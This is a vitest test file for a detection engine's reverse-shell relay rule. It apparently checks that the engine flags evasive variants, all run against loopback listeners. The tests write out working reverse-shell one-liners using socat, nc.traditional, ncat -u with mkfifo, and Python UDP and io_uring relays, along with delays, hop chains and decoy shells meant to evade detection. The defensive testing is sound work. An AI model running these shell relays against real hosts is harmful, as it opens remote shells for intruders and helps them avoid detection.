/**
 * The relay evasions (issue 26): relays that wait out a window, connect late, add hops, hide
 * behind decoy candidates or talk UDP. Real programs against loopback listeners that send a
 * command and read its answer; variants are generated at test time (a delay past any window
 * the rule had, a chain of random length and hop kinds), so no list in the code can satisfy
 * them. Each must give exactly one finding from the default configuration.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Engine, Finding } from "sockeye";
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { IO_URING_RELAY, PYTHON, PYTHON_UDP_SENDTO_RELAY, Session, attachEngine, commandingListener, freePort, kernelTier, run, udpCommandingListener, udpSendLive } from "./harness.js";

const tier = kernelTier();

interface RelayFinding extends Finding {
  destination: { ip: string; port: number };
  network: { transport: string };
  sockeye: Finding["sockeye"] & { relay: { program: { name: string }; input_chain: unknown[]; output_chain: unknown[]; socket_inode: number; unconnected?: boolean } };
}

/** A whole number from min to max inclusive, logged so a failing draw can be replayed. */
function draw(what: string, min: number, max: number): number {
  const n = min + Math.floor(Math.random() * (max - min + 1));
  console.log(`relay-evasions: ${what} = ${n}`);
  return n;
}

describe.runIf(tier.run)("kernel: relay evasions (no window, no hop count, decoys, UDP), default configuration", () => {
  let session: Session;
  let engine: Engine;
  const findings: RelayFinding[] = [];
  const dir = mkdtempSync(join(tmpdir(), "sockeye-relay-evasions-"));

  beforeAll(async () => {
    session = await Session.open();
    engine = attachEngine(session, findings);
  });
  afterAll(() => session?.close());

  const forPort = (port: number) => findings.filter((f) => f.destination?.port === port);

  /** Runs `script` under bash against a commanding TCP listener; expects one RELAY-001 finding for it. */
  async function caughtOnce(script: (port: number) => string, killAfterS: number, program: string[]): Promise<RelayFinding> {
    const listener = await commandingListener("127.0.0.1");
    try {
      const r = await run("timeout", ["-s", "KILL", String(killAfterS), "bash", "-c", script(listener.port)]);
      expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
      await session.settle();
      const found = forPort(listener.port);
      expect(found.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
      expect(program).toContain(found[0]!.sockeye.relay.program.name);
      return found[0]!;
    } finally {
      await listener.close();
    }
  }

  it("socat TCP:H:P SYSTEM:'sleep 11; exec sh -i': the shell starts 11 s after the connect", async () => {
    await caughtOnce((p) => `socat TCP:127.0.0.1:${p} SYSTEM:'sleep 11; exec sh -i'`, 40, ["socat"]);
  }, 60_000);

  it("the same with a delay drawn at test time past any window the rule had (12-20 s)", async () => {
    const delay = draw("socat SYSTEM delay (s)", 12, 20);
    await caughtOnce((p) => `socat TCP:127.0.0.1:${p} SYSTEM:'sleep ${delay}; exec sh -i'`, delay + 30, ["socat"]);
  }, 80_000);

  it("a relay that connects more than 5 s after its shell started (a drawn 6-9 s)", async () => {
    const delay = draw("late connect delay (s)", 6, 9);
    const f = join(dir, `late-${delay}`);
    await caughtOnce((p) => `rm -f ${f}; mkfifo ${f}; sh -i < ${f} 2>&1 | (sleep ${delay}; exec nc.traditional 127.0.0.1 ${p}) > ${f}`, delay + 30, ["nc.traditional"]);
  }, 60_000);

  it("a chain of random length (2-6 hops of cat, socat and FIFOs, generated now) between the shell and nc", async () => {
    const kinds = ["cat", "socat", "fifo"] as const;
    let fifos = 0;
    const hop = (kind: (typeof kinds)[number]) => {
      if (kind === "cat") return "cat";
      if (kind === "socat") return "socat -u STDIN STDOUT";
      // Two processes around a FIFO of its own: one reads it out (in the background, its
      // stdin redirected explicitly: bash gives a background command /dev/null otherwise), the
      // other writes the hop's input into it.
      const ff = join(dir, `hop-${process.pid}-${fifos++}`);
      return `{ rm -f ${ff}; mkfifo ${ff}; cat < ${ff} & cat > ${ff}; wait; }`;
    };
    const side = (n: number) => Array.from({ length: n }, () => kinds[Math.floor(Math.random() * kinds.length)]!);
    const total = draw("chain hops", 2, 6);
    const inward = side(draw("of which on the input side", 1, total - 1));
    const outward = side(total - inward.length);
    console.log(`relay-evasions: chain nc -> ${inward.join(" -> ")} -> sh -> ${outward.join(" -> ")} -> nc`);
    const f = join(dir, `chain-${total}`);
    const found = await caughtOnce(
      (p) => `rm -f ${f}; mkfifo ${f}; nc.traditional 127.0.0.1 ${p} < ${f} | ${inward.map(hop).join(" | ")} | sh -i 2>&1 | ${outward.map(hop).join(" | ")} > ${f}`,
      30, ["nc.traditional"]);
    // Every hop is on the way: a FIFO hop is two processes.
    const processes = (list: readonly string[]) => list.reduce((n, k) => n + (k === "fifo" ? 2 : 1), 0) + 1;
    expect(found.sockeye.relay.input_chain).toHaveLength(processes(inward));
    expect(found.sockeye.relay.output_chain).toHaveLength(processes(outward));
  }, 60_000);

  it("300 decoy candidate shells started between the shell's exec and its relay's connect: one finding, no candidate abandoned", async () => {
    const ready = join(dir, "decoys-ready");
    const f = join(dir, "decoys");
    const before = engine.stats().ruleState["RELAY-001"]?.abandoned ?? 0;
    const decoys = `${PYTHON} -c '
import subprocess,time,os
ds=[subprocess.Popen(["/bin/sh"],stdin=subprocess.PIPE,stdout=subprocess.PIPE) for _ in range(300)]
open("${ready}","w").close()
time.sleep(8)
for d in ds: d.kill()
'`;
    await caughtOnce(
      (p) => `rm -f ${f} ${ready}; mkfifo ${f}; sh -i < ${f} 2>&1 | (while [ ! -e ${ready} ]; do sleep 0.2; done; exec nc.traditional 127.0.0.1 ${p}) > ${f} & sleep 0.5; ${decoys} & wait`,
      40, ["nc.traditional"]);
    expect(engine.stats().ruleState["RELAY-001"]!.abandoned).toBe(before);
  }, 60_000);

  /** Runs `cmd` (given the client's fixed port and the listener's) against a commanding UDP listener; expects one RELAY-001 finding, transport udp, naming `program`. */
  async function caughtOnceOverUdp(cmd: (clientPort: number, port: number) => [string, ...string[]], program: string): Promise<RelayFinding> {
    const clientPort = await freePort();
    const listener = await udpCommandingListener(clientPort);
    try {
      const r = await run("timeout", ["-s", "KILL", "20", ...cmd(clientPort, listener.port)]);
      expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
      await session.settle();
      const found = forPort(listener.port);
      expect(found.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
      expect(found[0]!.network.transport).toBe("udp");
      // A substring: python3's process may be named by its executable (python3.11).
      expect(found[0]!.sockeye.relay.program.name).toContain(program);
      return found[0]!;
    } finally {
      await listener.close();
    }
  }

  it("socat UDP:127.0.0.1:P EXEC:sh (a connected UDP socket, socketpair): one finding, transport udp", async () => {
    const found = await caughtOnceOverUdp((client, p) => ["socat", `UDP:127.0.0.1:${p},sourceport=${client}`, "EXEC:sh"], "socat");
    expect(found.sockeye.relay.unconnected).toBeUndefined();
  }, 40_000);

  // Unconnected UDP (cgroup/sendmsg4|6, bpf/relay.bpf.c): socat's UDP-SENDTO and UDP-DATAGRAM
  // never connect (strace: socket, then sendto with an address on every write), nor does the
  // python relay; /proc/net/udp shows their sockets' remote as 0.0.0.0:0.
  it("socat UDP-SENDTO:127.0.0.1:P EXEC:sh (never connected, sendto): one finding, transport udp, the port its datagrams went to", async () => {
    if (!udpSendLive(session.sensor)) return;
    const found = await caughtOnceOverUdp((client, p) => ["socat", `UDP-SENDTO:127.0.0.1:${p},sourceport=${client}`, "EXEC:sh"], "socat");
    expect(found.sockeye.relay.unconnected).toBe(true);
    expect(found.sockeye.relay.socket_inode).toBeGreaterThan(0);
  }, 40_000);

  // UDP-DATAGRAM takes its local port from bind= (its sourceport= only filters what comes in).
  it("socat UDP-DATAGRAM:127.0.0.1:P EXEC:'sh -i',stderr (never connected): one finding, transport udp", async () => {
    if (!udpSendLive(session.sensor)) return;
    const found = await caughtOnceOverUdp((client, p) => ["socat", `UDP-DATAGRAM:127.0.0.1:${p},bind=127.0.0.1:${client}`, "EXEC:sh -i,stderr"], "socat");
    expect(found.sockeye.relay.unconnected).toBe(true);
  }, 40_000);

  it("a python relay on an unconnected socket (sendto/recvfrom, sh -i behind two pipes): one finding, transport udp", async () => {
    if (!udpSendLive(session.sensor)) return;
    const found = await caughtOnceOverUdp((client, p) => [PYTHON, "-c", PYTHON_UDP_SENDTO_RELAY, "127.0.0.1", String(p), String(client)], "python3");
    expect(found.sockeye.relay.unconnected).toBe(true);
  }, 40_000);

  it("ncat -u with mkfifo: sh -i < F 2>&1 | ncat -u H P > F: one finding, transport udp", async () => {
    const f = join(dir, "udp-fifo");
    await caughtOnceOverUdp((client, p) => ["bash", "-c", `rm -f ${f}; mkfifo ${f}; sh -i < ${f} 2>&1 | ncat -u -p ${client} 127.0.0.1 ${p} > ${f}`], "ncat");
  }, 40_000);

  it("a relay whose connect goes through io_uring (IORING_OP_CONNECT, no connect(2)): one finding, the connect named unseen", async () => {
    const listener = await commandingListener("127.0.0.1");
    try {
      const r = await run("timeout", ["-s", "KILL", "20", PYTHON, "-c", IO_URING_RELAY, "127.0.0.1", String(listener.port)]);
      expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
      await session.settle();
      const found = forPort(listener.port) as (RelayFinding & { sockeye: { relay: { connected_by: unknown; connect_unseen?: boolean } } })[];
      expect(found.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
      expect(found[0]!.sockeye.relay.program.name).toMatch(/^python3/);
      // No connect record: the host's TCP table showed the socket outbound.
      expect(found[0]!.sockeye.relay.connect_unseen).toBe(true);
      expect(found[0]!.sockeye.relay.connected_by).toBeNull();
    } finally {
      await listener.close();
    }
  }, 40_000);
});
